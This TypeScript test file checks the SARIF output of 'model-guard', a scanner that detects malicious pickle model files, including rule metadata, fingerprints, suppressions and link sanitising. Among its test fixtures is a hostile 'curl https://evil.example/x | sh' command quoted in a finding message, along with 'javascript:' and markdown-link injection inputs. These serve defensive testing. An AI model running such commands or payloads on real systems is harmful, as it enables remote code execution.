// SARIF by what code scanning requires of it. The demands are GitHub's; the shape is SARIF 2.1.0.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { RuleBook } from '../../src/core/rule.ts';
import { sarif } from '../../src/report/sarif.ts';
import { token } from '../inspect/secret/tokens.ts';
import { hostileReport, judged, realistic, reportOf, ruleBook } from './samples.ts';

interface Rule {
  id: string;
  name: string;
  shortDescription: { text: string };
  fullDescription: { text: string };
  help: { text: string; markdown: string };
  properties: { 'security-severity': string; precision: string; tags: string[] };
}

interface Result {
  ruleId: string;
  ruleIndex: number;
  level: string;
  message: { text: string };
  locations: { physicalLocation: { artifactLocation: { uri: string }; region: Record<string, number> } }[];
  partialFingerprints: { primaryLocationLineHash: string };
  baselineState: string;
  suppressions?: object[];
}

interface Run {
  tool: { driver: { name: string; rules: Rule[] } };
  automationDetails: { id: string };
  invocations: {
    executionSuccessful: boolean;
    toolExecutionNotifications: { message: { text: string } }[];
  }[];
  results: Result[];
}

const OPTIONS = { rules: ruleBook(), version: '1.2.3', informationUri: 'https://example.org/model-guard' };

function runOf(...parameters: Parameters<typeof sarif>): Run {
  const log: { version: string; runs: Run[] } = JSON.parse(sarif(...parameters));
  expect(log.version).toBe('2.1.0');
  const [run, ...others] = log.runs;
  if (run === undefined) throw new Error('no run');
  expect(others).toEqual([]);
  return run;
}

describe('sarif of a path that holds a secret', () => {
  it('shows no more than its start, and tells two such files apart', () => {
    const secrets = [token('huggingface-user'), token('huggingface-user', 'two')];
    const findings = secrets.map((secret) =>
      judged({ location: { path: `runs/${secret}.env`, members: [] } }),
    );
    const { results } = runOf(reportOf({ findings }), OPTIONS);
    for (const secret of secrets) expect(JSON.stringify(results)).not.toContain(secret.slice(6));
    expect(results[0]?.locations[0]?.physicalLocation.artifactLocation.uri).toMatch(/^runs\/hf_/);
    const hashes = results.map(({ partialFingerprints }) => partialFingerprints.primaryLocationLineHash);
    expect(hashes).toEqual([`${'a'.repeat(64)}:1`, `${'a'.repeat(64)}:1`]);
  });
});

describe('sarif', () => {
  const run = runOf(realistic(), OPTIONS);

  it('names the tool and the rules that occur, described by the rule book', () => {
    expect(run.tool.driver).toMatchObject({
      name: 'model-guard',
      version: '1.2.3',
      informationUri: OPTIONS.informationUri,
    });
    expect(run.automationDetails.id).toBe('model-guard/');
    expect(run.tool.driver.rules.map(({ id }) => id)).toEqual([
      'NOTEBOOK-SHELL',
      'PICKLE-EXEC',
      'PICKLE-FORMAT',
    ]);
    expect(run.tool.driver.rules[1]).toEqual({
      id: 'PICKLE-EXEC',
      name: 'PickleExec',
      shortDescription: { text: 'Runs a command when loaded' },
      fullDescription: { text: 'Loading the file runs a command of its author.' },
      help: {
        text: 'Loading the file runs a command of its author. Fix: Use `safetensors`.',
        markdown:
          'Loading the file runs a command of its author.\n\n**Fix:** Use <code>safetensors</code>.\n\n' +
          '**References**\n\n- <https://docs.python.org/3/library/pickle.html>',
      },
      defaultConfiguration: { level: 'error' },
      properties: {
        'security-severity': '9.5',
        precision: 'high',
        tags: ['security', 'pickle', 'external/cwe/cwe-502', 'owasp-llm-2025/llm03'],
      },
    });
  });

  it('gives each result its place, its fingerprint and its state', () => {
    expect(run.results[0]).toEqual({
      ruleId: 'PICKLE-EXEC',
      ruleIndex: 1,
      level: 'error',
      message: {
        text: 'calls os.system("curl https://evil.example/x | sh") when loaded (REDUCE at byte 41) (also at bytes 90, 120)',
      },
      locations: [
        {
          physicalLocation: {
            artifactLocation: { uri: 'models/a.pt' },
            region: { startLine: 1, startColumn: 1, endLine: 1, endColumn: 2 },
          },
          logicalLocations: [{ name: 'archive/data.pkl', fullyQualifiedName: 'archive/data.pkl' }],
        },
      ],
      partialFingerprints: { primaryLocationLineHash: `${'a'.repeat(64)}:1` },
      baselineState: 'new',
      properties: { severity: 'CRITICAL', confidence: 'HIGH', disposition: 'block', offset: 41 },
    });
    expect(run.results[1]?.locations[0]?.physicalLocation.region).toEqual({
      startLine: 40,
      startColumn: 5,
      endLine: 40,
      endColumn: 6,
    });
    expect(run.results.map(({ baselineState }) => baselineState)).toEqual([
      'new',
      'new',
      'new',
      'new',
      'unchanged',
    ]);
    expect(run.results.map(({ suppressions }) => suppressions?.length)).toEqual([
      undefined,
      undefined,
      undefined,
      1,
      undefined,
    ]);
    expect(run.results[3]?.suppressions).toEqual([
      {
        kind: 'external',
        status: 'accepted',
        justification: 'exception until 2027-01-01: reviewed by hand (@org/owner)',
      },
    ]);
  });

  it('notifies of everything that was not inspected', () => {
    const [invocation] = run.invocations;
    expect(invocation?.executionSuccessful).toBe(true);
    expect(invocation?.toolExecutionNotifications.map(({ message }) => message.text)).toEqual([
      'exception 2 for PICKLE-EXEC expired on 2026-01-01',
      'Not inspected to its end (not-fetched): its LFS object was not fetched',
    ]);
  });

  it('counts equal fingerprints within a file, not across files', () => {
    const findings = ['a', 'a', 'b'].map((path) => judged({ location: { path, members: [] } }));
    const { results } = runOf(reportOf({ findings }), OPTIONS);
    const hashes = results.map(({ partialFingerprints }) =>
      partialFingerprints.primaryLocationLineHash.slice(64),
    );
    expect(hashes).toEqual([':1', ':2', ':1']);
  });

  it('makes no link of the evidence or of a reference that is not a plain URL', () => {
    const [rule] = ruleBook().rules;
    if (rule === undefined) throw new Error('no rule');
    const references = ['https://x.example/a>[b](c)', 'javascript:alert(1)'];
    const rules = new RuleBook([{ surface: 'pickle', rules: [{ ...rule, references }] }]);
    const evil = runOf(reportOf({ findings: [judged({ evidence: '[a](https://evil.example)' })] }), {
      ...OPTIONS,
      rules,
    });
    expect(evil.results[0]?.message.text).toBe('[a] (https://evil.example)');
    expect(evil.tool.driver.rules[0]?.help.markdown).not.toMatch(/[[\]]|<https|script:/);
  });

  it('meets every demand of code scanning for any report', () => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        const { tool, results, invocations } = runOf(report, OPTIONS);
        for (const rule of tool.driver.rules) demandsOfRule(rule);
        for (const result of results) demandsOfResult(result, tool.driver.rules);
        for (const { message } of invocations[0]?.toolExecutionNotifications ?? [])
          expect(message.text).not.toBe('');
        expect(results.length).toBe(report.findings.length);
        expect(new Set(tool.driver.rules.map(({ id }) => id)).size).toBe(tool.driver.rules.length);
      }),
    );
  });
});

function demandsOfRule(rule: Rule): void {
  for (const { text } of [rule.shortDescription, rule.fullDescription, rule.help]) {
    expect(text.length).toBeGreaterThan(0);
    expect(text.length).toBeLessThanOrEqual(1024);
  }
  expect(rule.name.length).toBeLessThanOrEqual(255);
  expect(rule.properties['security-severity']).toMatch(/^\d\.\d$/);
  expect(['high', 'medium', 'low']).toContain(rule.properties.precision);
  expect(rule.properties.tags[0]).toBe('security');
  expect(rule.properties.tags.length).toBeLessThanOrEqual(10);
  expect(new Set(rule.properties.tags).size).toBe(rule.properties.tags.length);
}

function demandsOfResult(result: Result, rules: readonly Rule[]): void {
  expect(rules[result.ruleIndex]?.id).toBe(result.ruleId);
  expect(['error', 'warning', 'note']).toContain(result.level);
  expect(result.message.text.trim()).not.toBe('');
  expect(result.partialFingerprints.primaryLocationLineHash).toMatch(/^[0-9a-f]{64}:\d+$/);
  const { artifactLocation, region } = result.locations[0]?.physicalLocation ?? {
    artifactLocation: { uri: ':' },
    region: {},
  };
  // A relative reference: resolved against a root, it stays there.
  expect(artifactLocation.uri).toMatch(/^(?![^/]*:)(?!\/)[!-~]*$/);
  expect(Object.keys(region)).toEqual(['startLine', 'startColumn', 'endLine', 'endColumn']);
  expect(region['startLine']).toBeGreaterThan(0);
  expect(region['endColumn']).toBeGreaterThan(region['startColumn'] ?? Infinity);
}
